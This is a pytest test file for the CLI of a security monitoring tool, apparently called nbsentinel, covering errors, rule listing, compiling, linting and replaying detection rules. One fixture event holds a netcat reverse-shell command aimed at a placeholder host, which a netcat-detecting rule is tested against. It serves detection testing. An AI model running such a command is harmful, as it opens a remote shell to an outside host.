"""The command line: exit codes, one-line errors with a next step, JSON everywhere."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from nbsentinel.cli import COMMANDS, run


@pytest.mark.parametrize("name", COMMANDS)
def test_every_command_explains_itself(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Each command has help, and its first line is the one in the list."""
    assert run([name, "--help"]) == 0
    assert "Usage: nbsentinel " + name in capsys.readouterr().out


@pytest.mark.parametrize(
    ("arguments", "code", "words"),
    [
        ([], 2, "Usage"),
        (["nonsense"], 2, "No such command"),
        (["status", "--run-dir", "/nowhere"], 3, "no agent runs here"),
        (["findings", "--run-dir", "/nowhere"], 3, "no agent runs here"),
        (["config", "check", "--config", "/nowhere"], 2, "cannot be read"),
        (["agent", "--config", "/nowhere"], 2, "cannot be read"),
        (["test-alert", "--run-dir", "/nowhere"], 3, "no agent runs here"),
        (["test-alert", "--severity", "fatal"], 2, "--severity"),
        (["test-alert", "--wait", "1000"], 2, "--wait"),
        (["rules", "list", "--rules", "/nowhere"], 2, "No such file"),
        (["rules", "lint", "/nowhere"], 2, "no such file"),
        (["rules", "replay", "--events", "/nowhere"], 2, "No such file"),
        (["rules", "pages", "/nowhere", "-o", "/nowhere"], 2, "no such file"),
        (["rules", "pages", "-o", "/proc/nowhere"], 2, "--output"),
        (["collector"], 2, "--config"),
        (["collector", "--config", "/nowhere"], 2, "cannot be read"),
        (["verify", "/nowhere", "--keys", "/nowhere"], 2, "/nowhere"),
    ],
)
def test_errors(arguments: list[str], code: int, words: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A mistake has its exit code and a line that says what is wrong, never a traceback."""
    assert run(arguments) == code
    err = capsys.readouterr().err
    assert words in err
    assert "Traceback" not in err


@pytest.mark.parametrize(
    ("text", "code", "words"),
    [
        ('database = "sqlite:////nowhere/collector.db"', 4, "sqlite:////nowhere/collector.db: unable to open"),
        ('database = "nonsense"', 2, "database: is no URL"),
        ('database = "nonsense://h/name"', 2, "database: is no URL"),
        ('database = "postgresql://h:port/name"', 2, "database: is no URL"),
        (
            'tls_certificate = "/nowhere/cert.pem"\ntls_key = "/nowhere/key.pem"',
            2,
            "tls_certificate: /nowhere/cert.pem",
        ),
        ('tls_certificate = "/dev/null"\ntls_key = "/"', 2, "tls_certificate: /dev/null"),
    ],
)
@pytest.mark.parametrize("arguments", [[], ["token"]])
def test_errors_of_the_collector(
    arguments: list[str], text: str, code: int, words: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A database or certificate that cannot be used is said at the start, by every command, in two lines."""
    path = tmp_path / "collector.toml"
    path.write_text(f"[collector]\n{text}\n")
    assert run(["collector", *arguments, "--config", str(path)]) == code
    err = capsys.readouterr().err
    assert words in err
    assert len(err.splitlines()) == 2


def test_collector_without_a_driver(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A database whose driver is not installed is said without the password in its URL."""
    monkeypatch.setitem(sys.modules, "psycopg2", None)
    path = tmp_path / "collector.toml"
    path.write_text('[collector]\ndatabase = "postgresql+psycopg2://user:hunter2@h/name"\n')
    assert run(["collector", "--config", str(path)]) == 2
    err = capsys.readouterr().err
    assert "database: needs psycopg2" in err
    assert "hunter2" not in err


@pytest.mark.parametrize(
    ("arguments", "code"),
    [
        (["config", "reference"], 0),
        (["--help"], 0),
        (["rules", "--help"], 0),
        (["rules", "list"], 0),
        (["rules", "list", "--json"], 0),
        (["verify", "/dev/stdin", "--keys", "KEYS"], 1),
        (["verify", "/dev/stdin", "--keys", "KEYS", "--json"], 1),
    ],
)
def test_reader_that_goes_away(arguments: list[str], code: int, tmp_path: Path) -> None:
    """Whoever reads no further (`| head`) is told of no failure; what does not verify does not verify for that."""
    keys = tmp_path / "keys.json"
    keys.write_text('{"chains": {}}')
    unread, output = os.pipe()
    os.close(unread)
    command = [sys.executable, "-m", "nbsentinel", *(str(keys) if name == "KEYS" else name for name in arguments)]
    with open(output, "wb") as pipe:
        done = subprocess.run(command, input=b"{}\n", stdout=pipe, stderr=subprocess.PIPE, check=False)
    assert done.stderr == b""
    assert done.returncode == code


def test_rules_as_json(capsys: pytest.CaptureFixture[str]) -> None:
    """Programs can read the list of rules."""
    assert run(["rules", "list", "--json"]) == 0
    rules = json.loads(capsys.readouterr().out)
    assert {"id", "name", "title", "level", "category", "tactics", "techniques", "reports"} <= rules[0].keys()


def test_list_of_rules_fits(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """The list fits 100 columns, with every name in one piece, its level, category, techniques, and what is counted."""
    monkeypatch.setenv("COLUMNS", "100")
    assert run(["rules", "list", "--json"]) == 0
    rules = json.loads(capsys.readouterr().out)
    assert run(["rules", "list"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert max(map(len, lines)) <= 100
    first = {line.split()[0]: line.split() for line in lines}
    for rule in rules:
        level = {"informational": "info"}.get(rule["level"], rule["level"]) if rule["reports"] else "counted"
        assert first[rule["name"]][1:4] == [level, rule["category"], rule["techniques"][0]]


@pytest.mark.parametrize(
    ("options", "key", "values"),
    [
        (["--tactic", "credential-access"], "tactics", "Credential Access"),
        (["--tactic", "TA0006"], "tactics", "Credential Access"),
        (["--level", "medium"], "level", ("medium", "high", "critical")),
        (["--category", "api_call"], "category", ("api_call",)),
    ],
)
def test_list_of_some_rules(
    options: list[str], key: str, values: str | tuple[str, ...], capsys: pytest.CaptureFixture[str]
) -> None:
    """The list can be cut to a tactic, a least level or a category; the others are then those that do not fit."""
    assert run(["rules", "list", "--json"]) == 0
    every = json.loads(capsys.readouterr().out)
    assert run(["rules", "list", "--json", *options]) == 0
    fitting = [rule for rule in every if (values in rule[key] if isinstance(values, str) else rule[key] in values)]
    assert json.loads(capsys.readouterr().out) == fitting
    assert 0 < len(fitting) < len(every)


def test_pages_are_replaced(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Pages follow their rules; what somebody else wrote stays, and is never replaced."""
    rules, folder = tmp_path / "rules", tmp_path / "pages"
    rules.mkdir()
    (rules / "nc.yml").write_text(RULE)
    make = ["rules", "pages", str(rules), "-o", str(folder)]
    assert run(make) == 0
    (folder / "notes.md").write_text("mine")
    assert {path.name for path in folder.iterdir()} == {"README.md", "nc.md", "notes.md"}
    assert "/nc" in (folder / "nc.md").read_text()
    (rules / "nc.yml").rename(rules / "other.yml")
    assert run(make) == 0
    assert "1 of rules that are gone removed" in capsys.readouterr().out
    assert {path.name for path in folder.iterdir()} == {"README.md", "other.md", "notes.md"}
    (folder / "other.md").write_text("mine")
    assert run(make) == 2
    assert "is no page of rules" in capsys.readouterr().err
    assert (folder / "other.md").read_text() == "mine"
    (rules / "bad.yml").write_text("title: x\n")
    (folder / "other.md").unlink()
    assert run(make) == 1
    assert "bad.yml:1" in capsys.readouterr().err


RULE = """title: T
id: 22222222-2222-4222-8222-222222222222
logsource:
  category: process_creation
detection:
  s:
    Image|endswith: /nc
  condition: s
"""


def test_compile_lint_and_replay(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A folder of rules becomes a pack; replay says what fires, from the folder and from the pack alike."""
    rules, pack, events = tmp_path / "rules", tmp_path / "pack.json", tmp_path / "events.ndjson"
    rules.mkdir()
    (rules / "nc.yml").write_text(RULE)
    assert run(["rules", "lint", str(rules)]) == 0
    assert run(["rules", "compile", str(rules), "-o", str(pack)]) == 0
    process = {"pid": 1, "cmd_line": "nc -l", "file": {"path": "/bin/nc"}}
    lines: list[dict[str, object]] = [
        {"category": "process_creation", "Image": "/usr/bin/nc", "CommandLine": "nc -e /bin/sh 192.0.2.1 4444"},
        {"category": "process_creation", "Image": "/usr/bin/ncat"},
        {"class_uid": 1007, "activity_id": 1, "process": process},
        {"class_uid": 6002},
    ]
    events.write_text("".join(json.dumps(line) + "\n" for line in lines))
    for source in (rules, pack):
        capsys.readouterr()
        assert run(["rules", "replay", "--rules", str(source), "--events", str(events), "--json"]) == 0
        found = json.loads(capsys.readouterr().out)
        assert found["events"] == 3
        assert found["matches"] == {"22222222-2222-4222-8222-222222222222": 2}
        assert found["failed_rules"] == []
        assert found["seconds"] >= 0
    (rules / "bad.yml").write_text("title: x\n")
    assert run(["rules", "lint", str(rules)]) == 1
    assert "bad.yml:1" in capsys.readouterr().err


@pytest.mark.parametrize("line", ["{", "[]", "{}", '{"category": 1}'])
def test_replay_names_the_bad_line(tmp_path: Path, line: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A line that is no event is named with file and number."""
    events = tmp_path / "events.ndjson"
    events.write_text(f'{{"category": "x"}}\n{line}\n')
    assert run(["rules", "replay", "--events", str(events)]) == 2
    assert f"{events}:2" in capsys.readouterr().err


def test_broken_pack(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A pack of another format is refused with a next step."""
    pack = tmp_path / "pack.json"
    for content in ("", "{}", '{"format": 99, "rules": []}', '{"format": 1, "rules": [{}]}', "[" * 5000):
        pack.write_text(content)
        assert run(["rules", "list", "--rules", str(pack)]) == 2
        assert "rules compile" in capsys.readouterr().err


def test_config_commands(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The configuration can be checked, shown and explained."""
    path = tmp_path / "agent.toml"
    assert run(["config", "example"]) == 0
    path.write_text(capsys.readouterr().out)
    assert run(["config", "check", "--config", str(path)]) == 0
    assert "valid" in capsys.readouterr().out
    assert run(["config", "show", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["report"]["level"] == "context"


def test_start_is_quick_and_light() -> None:
    """Help loads neither the agent nor anything that draws."""
    names = ("rich", "cryptography", "requests", "psutil")
    code = (
        f"import sys; from nbsentinel.cli import run; run(['--help']); print([m for m in {names} if m in sys.modules])"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert result.stdout.splitlines()[-1] == "[]"


CORRELATION = """title: Twice
id: 22222222-2222-4222-8222-222222222223
correlation: {type: event_count, rules: [22222222-2222-4222-8222-222222222222], timespan: 1m, condition: {gte: 2}}
"""
EXCEPTION = """title: Backup
id: 22222222-2222-4222-8222-222222222224
logsource: {category: process_creation}
filter: {rules: any, backup: {User: backup}, condition: not backup}
nbsentinel: {owner: ops, reason: nightly copy, expires: %s}
"""


def test_replay_with_correlations_and_exceptions(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Replay counts correlations by the events' times, and what exceptions suppressed; lint names what is over."""
    rules, exception, events = tmp_path / "rules.yml", tmp_path / "exception.yml", tmp_path / "events.ndjson"
    rules.write_text(f"{RULE}---\n{CORRELATION}")
    exception.write_text(EXCEPTION % "2999-12-31")
    lines = [
        {"category": "process_creation", "Image": "/bin/nc", "User": user, "time": time}
        for user, time in (("u", 1_000), ("backup", 2_000), ("u", 90_000), ("u", 91_000))
    ]
    events.write_text("".join(json.dumps(line) + "\n" for line in lines))
    replay = ["rules", "replay", "--rules", str(rules), "--events", str(events), "--exceptions", str(exception)]
    assert run([*replay, "--json"]) == 0
    found = json.loads(capsys.readouterr().out)
    assert found["matches"] == {
        "22222222-2222-4222-8222-222222222222": 3,
        "22222222-2222-4222-8222-222222222223": 1,
    }
    assert found["suppressed"] == {"22222222-2222-4222-8222-222222222224": 1}
    assert run(replay) == 0
    shown = capsys.readouterr().out
    assert "Twice" in shown
    assert "1 suppressed by filter exception" in shown
    lint = ["rules", "lint", str(rules), "--exceptions", str(exception)]
    assert run(lint) == 0
    assert "no finding by itself" in capsys.readouterr().out
    exception.write_text(EXCEPTION % "2020-01-01")
    assert run(lint) == 1
    assert f"{exception}:5: expires: expired on 2020-01-01" in capsys.readouterr().err


def test_the_packages_own_rules_with_exceptions(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Without rules of their own an admin compiles the package's with exceptions; the pack says so when listed."""
    exception, pack = tmp_path / "exception.yml", tmp_path / "pack.json"
    exception.write_text(EXCEPTION % "2999-12-31")
    assert run(["rules", "compile", "--exceptions", str(exception), "-o", str(pack)]) == 0
    capsys.readouterr()
    assert run(["rules", "list", "--rules", str(pack)]) == 0
    shown = " ".join(capsys.readouterr().out.split())
    assert "agent_tampering" in shown
    assert "filter exception: Backup, ops until 2999-12-31: nightly copy" in shown
    replay = ["rules", "replay", "--rules", str(pack), "--events", "/dev/null", "--exceptions", str(exception)]
    assert run(replay) == 2
    assert "compiled already" in capsys.readouterr().err
